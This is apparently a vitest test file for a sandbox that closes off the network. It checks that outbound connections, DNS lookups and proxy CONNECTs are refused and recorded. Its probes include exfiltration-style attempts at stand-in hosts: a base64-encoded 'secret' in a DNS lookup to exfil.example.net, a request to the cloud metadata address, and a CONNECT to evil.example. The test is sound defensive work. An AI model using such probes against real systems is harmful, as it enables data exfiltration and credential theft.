import { randomUUID } from "node:crypto";
import { createServer } from "node:http";
import { type AddressInfo, createServer as createTcpServer } from "node:net";
import { expect, test } from "vitest";
import { createFiles } from "../../../src/adapters/files/files-node.ts";
import { createLoopback } from "../../../src/adapters/network/loopback-node.ts";
import { createNetworks } from "../../../src/adapters/network/network-gate.ts";
import type { NetworkRequest } from "../../../src/ports/network.ts";
import { describeWhere } from "../../support/needs.ts";
import { enterNamespace, runClosed } from "../closed-network.ts";

const closed: NetworkRequest = {
  closed: true,
  servicePorts: [],
  providers: [],
  hosts: [],
  refusal: () => null,
};

/** Runs a Node program in a closed network and says what it printed and what was refused. */
async function attempt(program: string, request: Partial<NetworkRequest> = {}) {
  await using files = createFiles();
  const networks = createNetworks({ files, loopback: createLoopback(), randomId: randomUUID });
  const network = await networks.open({ ...closed, ...request });
  const { plan } = network;
  if (plan === null) throw new Error("a closed network comes with a plan");
  const ran = await runClosed(plan, network.variables, [
    process.execPath,
    "--input-type=module",
    "-e",
    program,
  ]);
  const end = await network.end();
  expect(await network.end()).toBe(end);
  await networks.close();
  return { ...ran, ...end };
}

const reach = `
import net from "node:net"; import dns from "node:dns/promises"; import dgram from "node:dgram";
const code = (error) => error.cause?.code ?? error.code;
const tcp = (port, host) => new Promise((done) => { const s = net.connect({ port, host }); s.on("connect", () => { s.destroy(); done("connected"); }); s.on("error", (e) => done(code(e))); });
const udp = (port, host, text = "x") => new Promise((done) => { const s = dgram.createSocket(host.includes(":") ? "udp6" : "udp4"); s.send(text, port, host, (e) => { s.close(); done(e ? code(e) : "sent"); }); });
const web = (url) => fetch(url).then((r) => r.text(), code);
`;

describeWhere(enterNamespace !== null, "network namespaces", "a closed network", () => {
  test("refuses at once, and tells every name, address and port that was wanted, whatever the protocol", async () => {
    const startMs = performance.now();
    const { output, refused } = await attempt(`${reach}
      const resolver = new dns.Resolver({ timeout: 1000, tries: 1 }); resolver.setServers(["8.8.8.8"]);
      console.log(JSON.stringify([
        await web("https://api.example.com/v1?secret=1"), await web("http://plain.example.com:8080/"), await tcp(443, "203.0.113.9"),
        await tcp(22, "10.1.2.3"), await tcp(81, "2001:db8::5"), await tcp(80, "169.254.169.254"), await udp(9999, "198.51.100.7"),
        await udp(53, "198.51.100.8", "not a question"), await resolver.resolve4("c2VjcmV0.exfil.example.net").then((a) => a[0].slice(0, 7), code),
        await dns.lookup("looked-up.example.org").then(({ address }) => address.slice(0, 7), code),
        await dns.lookup("localhost").then(({ address }) => address, code), await tcp(1, "127.0.0.1"),
      ]));`);
    const refusal = "ECONNREFUSED";
    expect(output.trim()).toBe(
      JSON.stringify([...Array(6).fill(refusal), "sent", "sent", "198.18.", "198.18.", "127.0.0.1", refusal]),
    );
    expect({ ...refused, refused: refused?.refused.toSorted() }).toEqual({
      refused: [
        "api.example.com:443",
        "plain.example.com:8080",
        "203.0.113.9:443",
        "10.1.2.3:22",
        "[2001:db8:0:0:0:0:0:5]:81",
        "169.254.169.254:80",
        "198.51.100.7:9999/udp",
        "?:53/udp",
        "c2vjcmv0.exfil.example.net (looked up)",
        "looked-up.example.org (looked up)",
      ].sort(),
      open: null,
    });
    expect(performance.now() - startMs).toBeLessThan(60_000);
  });

  test("tells what was wanted in the last moment of an attempt", async () => {
    const { refused } = await attempt(
      `${reach} net.connect(7, "192.0.2.1").on("error", () => process.exit());`,
    );
    expect(refused).toEqual({ refused: ["192.0.2.1:7"], open: null });
  });

  test("writes down no more than it can hold, and says that there were more", async () => {
    const { refused } = await attempt(
      `${reach} for (let i = 0; i < 700; i++) await tcp(1000 + i, "192.0.2.1"); await dns.lookup("\\u202e<b>|x.example").catch(() => 0);`,
    );
    expect(refused?.refused).toHaveLength(512);
    expect(refused?.open).toMatch(/^18\d more were not written down$/);
  });

  test("passes a service on both ways, many connections at a time, and nothing else of this machine", async () => {
    const service = createServer((message, reply) => message.pipe(reply));
    const other = createTcpServer((socket) => socket.end("not for you"));
    const [port, otherPort] = await Promise.all(
      [service, other].map(
        (server) =>
          new Promise<number>((resolve) =>
            server.listen(0, "127.0.0.1", () => resolve((server.address() as AddressInfo).port)),
          ),
      ),
    );
    const { output, refused } = await attempt(
      `${reach}
      const body = "x".repeat(1 << 20);
      const echo = () => fetch("http://127.0.0.1:${port}/", { method: "POST", body }).then((r) => r.text()).then((text) => text === body);
      console.log(JSON.stringify([...new Set(await Promise.all(Array.from({ length: 40 }, echo)))]), await tcp(${otherPort}, "127.0.0.1"));`,
      { servicePorts: [port ?? 0] },
    );
    service.close();
    other.close();
    expect(output.trim()).toBe("[true] ECONNREFUSED");
    expect(refused).toEqual({ refused: [], open: null });
  });

  test("lets a host that is named through a proxy, and no other one", async () => {
    const named = createTcpServer((socket) => socket.end("named"));
    const port = await new Promise<number>((resolve) =>
      named.listen(0, "127.0.0.1", () => resolve((named.address() as AddressInfo).port)),
    );
    const { output, refused } = await attempt(
      `${reach}
      const proxy = new URL(process.env.HTTPS_PROXY);
      const ask = (text) => new Promise((done) => { let said = ""; const s = net.connect(proxy.port, proxy.hostname, () => s.write(text + "\\r\\n\\r\\n"));
        s.on("data", (chunk) => { said += chunk; }); s.on("close", () => done(said.replaceAll("\\r\\n", " "))); s.on("error", () => done("error")); });
      for (const line of ["CONNECT 127.0.0.1:${port} HTTP/1.1", "CONNECT 127.0.0.1:22 HTTP/1.1", "CONNECT evil.example:443 HTTP/1.1", "GET http://127.0.0.1:${port}/ HTTP/1.1"])
        console.log((await ask(line + "\\r\\nhost: a")).replace(/ (date|content).*/, ""));`,
      { hosts: [`127.0.0.1:${port}`] },
    );
    named.close();
    expect(output.trim().split("\n")).toEqual([
      "HTTP/1.1 200 Connection established  named",
      "HTTP/1.1 403 Forbidden",
      "HTTP/1.1 403 Forbidden",
      "HTTP/1.1 403 Forbidden",
    ]);
    expect(refused?.refused).toEqual(["127.0.0.1:22", "evil.example:443", `GET http://127.0.0.1:${port}/`]);
  });

  test("says that nothing is known of it where its watch never came", async () => {
    await using files = createFiles();
    const networks = createNetworks({ files, loopback: createLoopback(), randomId: randomUUID });
    const network = await networks.open(closed);
    expect((await network.end()).refused).toEqual({
      refused: [],
      open: "what it wanted of the network was not watched",
    });
    await networks.close();
  });
});
